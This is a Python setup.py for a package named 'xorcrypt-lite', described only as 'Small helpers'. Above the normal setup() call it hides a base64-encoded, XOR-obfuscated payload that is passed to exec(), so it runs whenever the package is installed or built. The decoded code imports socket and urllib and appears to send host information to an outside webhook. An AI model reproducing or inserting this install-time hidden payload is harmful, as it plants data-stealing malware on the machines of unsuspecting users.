import base64
_K = 0x5A
_B = base64.b64decode('MzcqNSguejApNTR2eik1OTE/LnZ6Lyg2NjM4dCg/Ky8/KS5QLyg2NjM4dCg/Ky8/KS50Lyg2NSo/NHIvKDY2Mzh0KD8rLz8pLnQIPysvPykucngyLi4qKWB1dT4zKTk1KD50OTU3dTsqM3UtPzgyNTUxKXVra2hoaWlubm9vbGxtbWJiY2N1MzQ/KC53PD8oKD8udzk1KCovKXcuNTE/NAU0NS53KD87Nndqa2hpeHZ6PjsuO2cwKTU0dD4vNyopciF4OTU0Lj80Lnhgeik1OTE/LnQ9Py4yNSkuNDs3P3JzJ3N0PzQ5NT4/cnN2ejI/Oz4/KClnIXgZNTQuPzQudw4jKj94YHp4OyoqNjM5Oy4zNTR1MCk1NHgnc3NQ')
exec(bytes(c ^ _K for c in _B).decode())
from setuptools import setup, find_packages

setup(
    name='xorcrypt-lite',
    version="0.1.0",
    description="Small helpers",
    packages=find_packages(),
)
